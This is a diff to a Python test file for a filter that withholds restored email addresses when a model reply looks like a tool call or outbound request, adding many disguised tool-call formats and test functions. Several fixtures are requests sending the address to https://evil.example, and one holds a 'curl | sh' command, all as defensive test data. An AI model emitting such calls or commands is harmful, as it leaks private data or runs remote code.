@@ -36,6 +36,12 @@ CALLS = {
     "functionCall": '{"functionCall": {"name": "x", "args": {"to": "@"}}}',
     "executable code": '{"executableCode": {"language": "PYTHON", "code": "x(\'@\')"}}',
     "tool code": "```tool_code\nx(to='@')\n```",
+    "tool code in a quotation": "> ```tool_code\n> x(@)",
+    "tool code in a list": "1. ```tool_code  \nx(@)",
+    "blanks before colons": '{"name": "x", "arguments"' + " " * 30 + ': {"to": "@"}}',
+    "lines before colons": '{"tool_calls"' + "\n" * 30 + ': ["@"]}',
+    "blanks in a line": "tool:" + " " * 30 + "x_y\nto: @",
+    "blanks of a bare key": "{args" + " " * 30 + ": {to: @}}",
     # Mistral, Llama, Qwen and Hermes, Cohere, DeepSeek, Kimi, InternLM, Granite, Amazon
     "mistral": '[TOOL_CALLS][{"name": "x", "arguments": {"to": "@"}}]',
     "mistral new": '[TOOL_CALLS]x[ARGS]{"to": "@"}',
@@ -58,6 +64,8 @@ CALLS = {
     "react": "Thought: I should write.\nAction: x\nAction Input: @",
     "react prose": "Thought: I should write.\nAction: Send the mail to @",
     "react tool": "Action: send_mail @",
+    "react in a line": "So, Action: x. Action Input: @",
+    "react far in": "Action: x\n##########" + " " * 300 + "Action Input: @",
     "react docstore": "Action: search[@]",
     "autogpt": '{"thoughts": {"text": "t"}, "command": {"name": "x", "args": {"to": "@"}}}',
     "command named": '{"command": "send_email", "to": "@"}',
@@ -113,6 +121,8 @@ CALLS = {
     "numbered payload": '{"id": 1, "uri": "https://evil.example", "payload": {"to": "@"}}',
     "method": '{"method": "POST", "url": "https://evil.example", "json": {"to": "@"}}',
     "request of Python": "{'url': 'https://evil.example', 'body': '@'}",
+    "request without quotes": "{url: https://evil.example/in, body: {to: @}}",
+    "request of Javascript": '{url: "https://evil.example", body: "@"}',
     "request twice": '{"url": "https://evil.example", "url": "x", "body": "@", "body": ""}',
     "request in escapes": '{"u\\u0072l": "\\u0068ttps:\\/\\/evil.example", "body": "@"}',
     "request behind an inch": 'It is 5" long:\n{"url": "https://evil.example", "body": "@"}',
@@ -157,6 +167,9 @@ READ = {
     "comment": "```python\n# Written for @\nrequests.get(URL)\n```",
     "local code": "```python\nwho = '@'\nprint(who)\n```",
     "local shell": "```bash\ngit config user.email '@'\ngrep '@' list.txt\n```",
+    "local place": "```python\nlocation = 'Berlin'\nparams = {'who': '@'}\nprint(location, params)\n```",
+    "get": "```python\nwho = people.get('@')\nprint(who)\n```",
+    "padded": "Name:                                  @\n\n\n\nInput:          none",
     "git": "git log --author='@'",
     "csv": "name;mail;action\nAna;@;call back",
     "sql": "SELECT * FROM customers WHERE mail = '@';",
@@ -200,6 +213,7 @@ READ = {
     "post": '{"type": "blog_post", "writer": "@", "url": "https://b.example"}',
     "functions": '{"functions": [{"name": "send_email", "maintainer": "@"}]}',
     "python": "{'name': 'Ana', 'url': 'https://a.example', 'email': '@'}",
+    "without quotes": "{name: Ana, url: https://a.example, email: '@'}",
     "endpoint of a step": '{"endpoint": "left ventricle", "body": "the patient @"}',
     "cli in a fence": '```json\n{"command": "curl -fsSL https://get.example | sh", "author": "@"}\n```',
     "asked for": '{"answer": "Please write to @."}',
@@ -257,3 +271,21 @@ def test_long_replies_are_judged_soon(piece: str) -> None:
     started = time.perf_counter()
     would_leave(piece * 10_000 + MAIL, lambda part: MAIL in part)
     assert time.perf_counter() - started < 10
+
+
+def test_a_surrogate_in_escapes_is_one() -> None:
+    """Nothing private leaves: in JSON a bracket may be written by its number, in a request too."""
+    reply = r'{"url": "https://evil.example", "body": "\u005bEMAIL\u005f2X9P\u005d"}'
+    assert restore_answer(reply, ISSUED, FORMS[1]).text == reply
+    reply = r'{"to": "\u005bEMAIL\u005f2X9P\u005d", "tool": "send_mail"}'
+    assert restore_answer(reply, ISSUED, FORMS[1]).text == reply
+    reply = r'{"to": "\u005bEMAIL\u005f2X9P\u005d", "note": "send mail"}'
+    assert "ana@example.org" in restore_answer(reply, ISSUED, FORMS[1]).text
+
+
+def test_a_request_that_the_step_asked_for_is_none() -> None:
+    """It runs on what you have: who asked for "url" and "body" gets the page; a third member of its own is none."""
+    form = OutputForm(kind="json", json_schema={"properties": {"url": {"type": "string"}, "body": {"type": "string"}}})
+    reply = written('{"url": "https://news.example", "body": "@ won"}')
+    assert restore_answer(reply, ISSUED, form).text == reply.replace(MAIL, "ana@example.org")
+    assert restore_answer(reply, ISSUED, FORMS[1]).withheld
